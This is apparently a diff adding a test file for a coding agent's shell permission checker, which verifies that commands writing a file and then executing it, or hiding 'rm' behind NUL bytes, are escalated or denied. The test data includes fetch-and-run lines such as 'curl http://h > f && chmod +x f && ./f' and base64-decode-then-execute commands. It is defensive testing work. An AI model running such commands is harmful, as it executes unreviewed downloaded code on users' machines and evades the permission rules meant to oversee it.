@@ -1,0 +1,34 @@
+import { describe, expect, it } from "vitest"
+import { decideIn, shell } from "../fixture.ts"
+
+/** A file that one part of a text writes and another runs: nobody has seen what is in it. */
+const UNSEEN = [
+  "base64 -d x > f; sh f", "echo eA== | base64 -d > f && bash ./f", "curl -o f http://h; bash f", "curl http://h > f && chmod +x f && ./f",
+  "cp x f; sh f", "mv x f && ./f", "dd if=x of=f; sh f", "sed -i s/a/b/ f; sh f", "tr a b < x | tee f; source f", "wget -O f h; . ./f",
+  "cat x > $PWD/f; python3 f", "(base64 -d x > f); (nohup sh f)", "mkdir -p d && curl -o d/f http://h && sh d/f", "cp x d/ && sh d/x",
+  "sort -o f x; sh f", "gunzip f.gz; sh f", "cd sub && base64 -d x > f && sh f"
+]
+
+const SEEN = [
+  "chmod +x build.sh && ./build.sh", "npm test > out.txt; sh run.sh", "touch run.sh; sh run.sh", "ls > out.txt; cat out.txt",
+  "sh run.sh > out.txt", "echo hi > log; node app.js"
+]
+
+const setting = { mode: "bypassPermissions", deny: ["Bash(rm *)"] } as const
+
+describe("files that are written and then run", () => {
+  it.each(UNSEEN)("%s could be what a rule names", (command) => {
+    expect(decideIn(setting, { need: shell(command) })).toMatchObject({ verdict: "ask", reason: { type: "possibleDeny" } })
+    expect(decideIn({ mode: "bypassPermissions" }, { need: shell(command) }).verdict).toBe("allow")
+  })
+
+  it.each(SEEN)("%s runs nothing that it wrote", (command) => {
+    expect(decideIn(setting, { need: shell(command) }).verdict).toBe("allow")
+  })
+
+  it("what a NUL stands before or behind is seen", () => {
+    for (const command of ["\0rm x", "rm\0 x", "ls\0; rm x"]) {
+      expect(decideIn(setting, { need: shell(command) }).verdict, JSON.stringify(command)).toBe("deny")
+    }
+  })
+})
